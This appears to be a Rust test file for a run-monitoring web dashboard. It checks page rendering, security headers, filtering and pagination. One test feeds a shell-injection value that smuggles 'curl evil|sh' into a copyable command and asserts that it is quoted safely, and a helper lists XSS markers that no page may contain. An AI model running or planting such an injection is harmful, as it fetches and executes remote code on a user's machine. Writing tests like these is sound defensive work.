//! Every page in its three forms, at every event.

use super::plan::plan;
use super::script::{Script, Scripted, run};
use super::{Got, Page};
use axum::http::StatusCode;
use plinth_analysis::{Columns, RunEntry};
use plinth_model::run::Outcome;
use plinth_model::{Event, Plan, RunView, StepState};
use plinth_report::Palette;
use plinth_report::runs::{self, Listed, Look};
use serde_json::Value;

pub(super) const PARTS: [&str; 14] = [
    "",
    "/failures",
    "/nodes",
    "/nodes/dgx-06",
    "/steps",
    "/steps?q=state:failed",
    "/steps/nodes/account/dgx-06",
    "/timeline",
    "/graph",
    "/checks",
    "/plan",
    "/exports",
    "/why",
    "/logs",
];

/// What no page may have: what a strict policy would refuse.
fn is_strict(got: &Got) {
    for sign in ["<style", " style=", "onclick", "onload=", "javascript:", "<script>"] {
        assert!(!got.body.contains(sign), "{sign} in {}", got.body);
    }
    let policy = got.headers["content-security-policy"].to_str().unwrap();
    assert!(policy.starts_with("default-src 'none'") && !policy.contains("unsafe"), "{policy}");
    for (name, value) in [("x-content-type-options", "nosniff"), ("referrer-policy", "no-referrer")] {
        assert_eq!(got.headers[name], value);
    }
    assert_eq!(got.headers["cross-origin-opener-policy"], "same-origin");
}

#[tokio::test]
async fn every_page_renders_at_every_event() {
    let events = run("a word");
    // Once with its plan, and once as of another release.
    renders(&events, None).await;
    renders(&events, Some(plan("a word"))).await;
}

async fn renders(events: &[Event], plan: Option<Plan>) {
    let has_plan = plan.is_some();
    let source = Scripted::of(events.to_vec());
    *source.plan.lock().unwrap() = plan;
    let page = Page::of(&source);
    for part in PARTS {
        let got = page.get(&format!("/r/run-1{part}")).await;
        assert_eq!(got.status, StatusCode::OK, "{part}: {}", got.body);
        is_strict(&got);
        let sign = if part.contains('?') { '&' } else { '?' };
        for event in events {
            let then = page.get(&format!("/r/run-1{part}{sign}at={}", event.seq)).await;
            // A node or a step that was not known yet has no page.
            let known = then.status == StatusCode::OK;
            assert!(known || part.contains("dgx-06"), "{part} at {}: {}", event.seq, then.body);
        }
    }
    for other in ["/", "/runs.json", "/runs.txt", "/explain/nodes", "/metrics", "/healthz"] {
        assert_eq!(page.get(other).await.status, StatusCode::OK, "{other}");
    }
    for none in ["/r/none", "/r/run-1/x", "/r/run-1/nodes/none", "/explain/nothing", "/%"] {
        assert_eq!(page.get(none).await.status, StatusCode::NOT_FOUND, "{none}");
    }
    // What is told from the plan has its other forms where there is one.
    for part in ["plan", "steps/nodes/account/dgx-06"] {
        let body = page.get(&format!("/r/run-1/{part}")).await.body;
        assert_eq!(body.contains(&format!("/r/run-1/{part}.json")), has_plan, "{part}: {body}");
    }
    let told = page.get("/r/run-1/plan.json").await.status;
    assert_eq!(told, if has_plan { StatusCode::OK } else { StatusCode::NOT_FOUND });
}

#[tokio::test]
async fn twins_say_what_the_verbs_say() {
    let events = run("a word");
    let page = Page::of(&Scripted::of_a_few(events.clone(), 3));
    let look = Look { palette: Palette::PLAIN, width: None };
    let view = RunView::of(&events);
    let entry = RunEntry::of(&view, false).unwrap();
    let groups = plinth_analysis::failure_groups(&view, &Default::default());
    assert_eq!(page.get("/r/run-1/failures.txt").await.body, runs::failures(&groups, look) + "\n");
    let site = plinth_model::SiteName::new("basepod-a").unwrap();
    let listed = Listed { site: &site, runs: &[entry], removed: 3 };
    assert_eq!(page.get("/runs.txt").await.body, runs::list(listed, "", look) + "\n");
    for address in ["/runs.txt", "/runs"] {
        assert!(page.get(address).await.body.contains("3 older runs are not kept any more"), "{address}");
    }
    let overview: Value = serde_json::from_str(&page.get("/r/run-1.json").await.body).unwrap();
    assert_eq!(overview["steps"].as_array().unwrap().len(), Columns::of(&events).rows.len());
    assert_eq!(overview["run"]["state"], "partly");
    let failed: Value = serde_json::from_str(&page.get("/r/run-1/steps.json?q=state:failed").await.body).unwrap();
    assert_eq!(failed["steps"][0]["step"]["step"], "nodes/account/dgx-06");
    let explained = page.get("/r/run-1/steps/nodes/account/dgx-06.json").await.body;
    assert_eq!(explained, page.get("/explain/nodes/account/dgx-06.json").await.body);
    for wrong in ["/r/run-1/steps.json?q=color:red", "/r/run-1/steps.txt?q=state:", "/runs.json?q=took:30"] {
        let got = page.get(wrong).await;
        assert!(
            got.status == StatusCode::BAD_REQUEST && got.body.contains("reading the filter"),
            "{wrong}: {}",
            got.body
        );
    }
    let lines = page.get("/r/run-1/events.ndjson?from=3").await.body;
    let back: Vec<Event> = lines.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert_eq!(back, events[2..]);
}

#[tokio::test]
async fn what_is_shown_first_is_what_needs_somebody() {
    let page = Page::of(&Scripted::of(run("no route to host")));
    let overview = page.get("/r/run-1").await.body;
    let at = |text: &str| overview.find(text).unwrap_or_else(|| panic!("no `{text}` in {overview}"));
    assert!(at("id=\"n2\"") < at("id=\"n0\""), "the node that failed is on top");
    assert!(at("node.connection-lost") < at("id=\"n2\"") && at("id=\"n2\"") < at("Kinds of steps"));
    assert!(overview.contains("failed: account"), "in words too");
    assert!(overview.contains("3 nodes: ") && overview.contains("<h1"));
    let steps = page.get("/r/run-1/steps?q=kind:nodes/*+state:changed").await.body;
    assert!(steps.contains("nodes/account/dgx-05") && !steps.contains("nodes/account/cpu-03"));
    let none = page.get("/r/run-1/steps?q=kind:nodes/*+took:%3E1h").await.body;
    assert!(none.contains("fits `took:&gt;1h`"), "the term that emptied it is named: {none}");
}

#[tokio::test]
async fn a_run_is_found_by_what_people_call_it_and_the_address_lasts() {
    let source = Scripted::of(run("x"));
    let mut second = Script::begin("run-2", 1, true);
    second.over(5.0, Outcome::Done);
    source.add("run-2", second.0);
    let page = Page::of(&source);
    let last = page.get("/r/last/steps?q=state:failed").await;
    assert_eq!(
        (last.status, &last.headers["location"]),
        (StatusCode::SEE_OTHER, &"/r/run-2/steps?q=state%3Afailed".parse().unwrap())
    );
    assert_eq!(page.get("/r/last-good.json").await.headers["location"], "/r/run-2.json");
    assert_eq!(page.get("/r/%5E1").await.headers["location"], "/r/run-1");
    let rehearsal = page.get("/r/run-2").await.body;
    assert!(rehearsal.contains("A rehearsal") && rehearsal.contains("virtual"));
    assert_eq!(page.get("/diff/run-1/run-2").await.status, StatusCode::OK);
    let none = page.get("/diff/last-good/run-1").await.body;
    assert!(none.contains("nothing to compare with"), "{none}");
}

#[tokio::test]
async fn the_time_of_a_rehearsal_that_is_on_is_told_as_its_patches_tell_it() {
    let source = Scripted::of(Script::begin("run-1", 8, true).0);
    source.held("run-1", true);
    let body = Page::of(&source).get("/").await.body;
    let told = body.split_once("id=\"t-elapsed\">").unwrap().1.split_once("</span>").unwrap();
    assert!(told.0.ends_with(" of virtual time") && !told.1.contains("virtual"), "{body}");
}

#[tokio::test]
async fn the_list_of_runs_says_of_the_one_that_goes_on_what_its_own_pages_say() {
    let source = Scripted::of(run("x")[..6].to_vec());
    source.held("run-1", true);
    let page = Page::of(&source);
    let (list, overview) = (page.get("/").await.body, page.get("/r/run-1").await.body);
    for id in ["t-elapsed", "t-done", "t-sentence"] {
        let told = |body: &str| {
            let (_, rest) = body.split_once(&format!("id=\"{id}\">")).unwrap();
            rest.split_once('<').unwrap().0.to_owned()
        };
        assert_eq!(told(&list), told(&overview), "{id}");
        assert!(!told(&list).is_empty(), "{id}");
    }
}

#[tokio::test]
async fn what_is_missing_is_said_and_order_and_copies_change_nothing() {
    let events = run("x");
    let shown = |page: Page| async move { page.get("/r/run-1").await.body };
    let whole = shown(Page::of(&Scripted::of(events.clone()))).await;
    let mut twice: Vec<Event> = events.iter().flat_map(|event| [event.clone(), event.clone()]).collect();
    twice.swap(5, 9);
    assert_eq!(shown(Page::of(&Scripted::of(twice))).await, whole);
    let mut cut = events.clone();
    cut.remove(7);
    let cut = shown(Page::of(&Scripted::of(cut))).await;
    assert!(cut.contains("Incomplete") && cut.contains("are missing"), "{cut}");
    assert!(!whole.contains("Incomplete"));
}

#[tokio::test]
async fn a_run_whose_runner_is_dead_says_so() {
    let mut events = run("x");
    events.truncate(9);
    let source = Scripted::of(events);
    source.held("run-1", false);
    let page = Page::of(&source);
    let body = page.get("/r/run-1").await.body;
    assert!(body.contains("interrupted") && body.contains("process 4711 on bastion is gone"), "{body}");
    assert!(body.contains("data-live"), "it may only be silent");
    assert!(!body.contains("http-equiv"), "and without scripts it is not read again for ever");
    assert!(!page.get("/r/run-1?at=5").await.body.contains("data-live"), "of an earlier moment nothing comes");
    assert!(!body.contains("At work") && body.contains("its end was not seen"), "nobody is at work: {body}");
    let told: Value = serde_json::from_str(&page.get("/r/run-1/steps.json?q=state:unknown").await.body).unwrap();
    assert!(!told["steps"].as_array().unwrap().is_empty(), "{told}");
    source.held("run-1", true);
    assert!(Page::of(&source).get("/r/run-1").await.body.contains("http-equiv=\"refresh\""));
}

#[tokio::test]
async fn a_runner_that_was_only_silent_is_at_work_again() {
    let mut events = run("x");
    events.truncate(6);
    let source = Scripted::of(events);
    source.held("run-1", true);
    let page = Page::of(&source);
    page.look();
    page.look();
    let before = page.get("/r/run-1").await.body;
    assert!(before.contains("At work") && before.contains("id=\"t-life\""), "{before}");
    source.held("run-1", false);
    page.look();
    assert!(!page.get("/r/run-1").await.body.contains("At work"));
    source.held("run-1", true);
    page.look();
    assert_eq!(page.get("/r/run-1").await.body, before);
}

#[tokio::test]
async fn a_command_to_copy_is_one_command_whatever_the_link_says() {
    let page = Page::of(&Scripted::of(run("x")));
    let command = |body: String| {
        let rest = body.split("<code id=\"command\">").nth(1).unwrap().to_owned();
        rest.split("</code>").next().unwrap().to_owned()
    };
    let evil = "x%27;curl%20evil%7Csh;%27";
    let word = r"'x'\'';curl evil|sh;'\'''";
    let steps = command(page.get(&format!("/r/run-1/steps?q={evil}")).await.body);
    assert_eq!(steps, format!("plinth runs show run-1 --where {word}"));
    assert_eq!(command(page.get(&format!("/explain/{evil}")).await.body), format!("plinth explain {word}"));
    assert_eq!(command(page.get(&format!("/?q={evil}")).await.body), format!("plinth runs --where {word}"));
    assert_eq!(command(page.get("/").await.body), "plinth runs");
}

#[tokio::test]
async fn a_page_of_two_runs_names_its_own_command() {
    let source = Scripted::of(run("x"));
    let mut second = Script::begin("run-2", 8, false);
    second.ends(1.0, "nodes/account/dgx-05", StepState::Failed, "x", None);
    second.ends(1.0, "nodes/storage/dgx-06", StepState::Changed, "x", None);
    second.over(5.0, Outcome::Partly);
    source.add("run-2", second.0);
    let diff = Page::of(&source).get("/diff/run-1/run-2").await.body;
    assert!(diff.contains("<code id=\"command\">plinth runs diff run-2 run-1</code>"), "{diff}");
    assert!(diff.contains("href=\"/diff/run-1/run-2.json\"") && !diff.contains("/runs.json"), "{diff}");
    assert!(diff.contains("<span class=\"st f\">failed</span>"), "{diff}");
    assert!(diff.contains("<span class=\"st n\">not run</span>"), "{diff}");
    assert!(diff.contains("<td>outcome</td><td class=\"id\">nodes/storage/dgx-06</td>"), "{diff}");
    assert!(
        diff.contains("<a href=\"/r/run-2/failures\">") && diff.contains("aria-current=\"page\">Changes</a>"),
        "{diff}"
    );
    assert!(diff.contains("<b>Touches what failed</b>"), "{diff}");
    // What is narrower than a word of these would break it in the middle.
    let style = include_str!("../assets/style.css");
    assert!(
        style.contains(".diff td:first-child{white-space:nowrap}")
            && style.contains(".diff .id{width:42%;overflow-wrap:break-word")
    );
}

#[tokio::test]
async fn a_list_of_steps_begins_with_what_went_wrong_and_what_did_not_run() {
    let body = Page::of(&Scripted::of(run("x"))).get("/r/run-1/steps").await.body;
    let at = |step: &str| body.find(&format!("id=\"s:{step}\"")).unwrap();
    assert!(at("nodes/account/dgx-06") < at("nodes/storage/dgx-06"), "failed first");
    assert!(at("nodes/storage/dgx-06") < at("checks/dns/basepod-a"), "then what did not run");
}

#[tokio::test]
async fn no_run_is_no_error_and_the_first_one_is_seen() {
    let source = std::sync::Arc::new(Scripted::default());
    let page = Page::of(&source);
    page.look();
    assert!(page.get("/").await.body.contains("Nothing was ever run here"));
    assert!(page.get("/metrics").await.body.contains("plinth_page_followers 0"));
    source.add("run-1", run("x"));
    page.look();
    assert!(page.get("/").await.body.contains("nodes/account/dgx-06"), "the first failure");
}

#[tokio::test]
async fn a_thousand_nodes_are_small_and_their_list_is_bounded() {
    let mut script = Script::begin("run-1", 4000, false);
    for node in 0..1000 {
        for kind in ["account", "facts", "storage", "prepare"] {
            let step = format!("nodes/{kind}/dgx-{node:04}");
            script.starts(f64::from(node), &step);
            script.ends(f64::from(node) + 2.0, &step, StepState::Changed, "done", None);
        }
    }
    let page = Page::of(&Scripted::of(script.0));
    let bearer = format!("Bearer {}", page.token.expose());
    let headers = [("host", "localhost"), ("authorization", bearer.as_str()), ("accept-encoding", "gzip")];
    let packed = page.respond("GET", "/r/run-1", &headers).await;
    assert_eq!(packed.headers()["content-encoding"], "gzip");
    let size = axum::body::to_bytes(packed.into_body(), usize::MAX).await.unwrap().len();
    assert!(size < 30 * 1024, "{size} bytes");
    let plain = page.get("/r/run-1").await.body;
    assert!(plain.matches('<').count() / 2 < 16_000, "too many elements");
    let steps = page.get("/r/run-1/steps").await.body;
    assert!(steps.contains("1 to 200 of 4000 steps") && steps.contains("after=200"));
    assert!(page.get("/r/run-1/steps?after=3999").await.body.contains("4000 to 4000 of"));
    let most = u64::MAX;
    let last = page.get(&format!("/r/run-1/steps?after={most}&at={most}")).await.body;
    assert!(last.contains("4000 to 4000 of") && last.contains(&format!("at={most}\">50 later")), "{last}");
}

#[tokio::test]
async fn a_kind_in_two_stages_is_counted_in_each() {
    let mut script = Script::begin("run-1", 3, false);
    script.ends(1.0, "nodes/x/a", StepState::Changed, "", None);
    script.ends(1.0, "nodes/x/b", StepState::Failed, "", None);
    if let Some(plinth_model::EventBody::StepFinished { stage, .. }) = script.0.last_mut().map(|event| &mut event.body)
    {
        *stage = plinth_model::Stage::Platform;
    }
    let body = Page::of(&Scripted::of(script.0)).get("/r/run-1").await.body;
    let rows: Vec<&str> = body.split("<tr id=\"k").skip(1).collect();
    assert!(rows.len() == 2 && rows[0].contains("1 changed") && rows[1].contains("1 failed"), "{rows:?}");
}
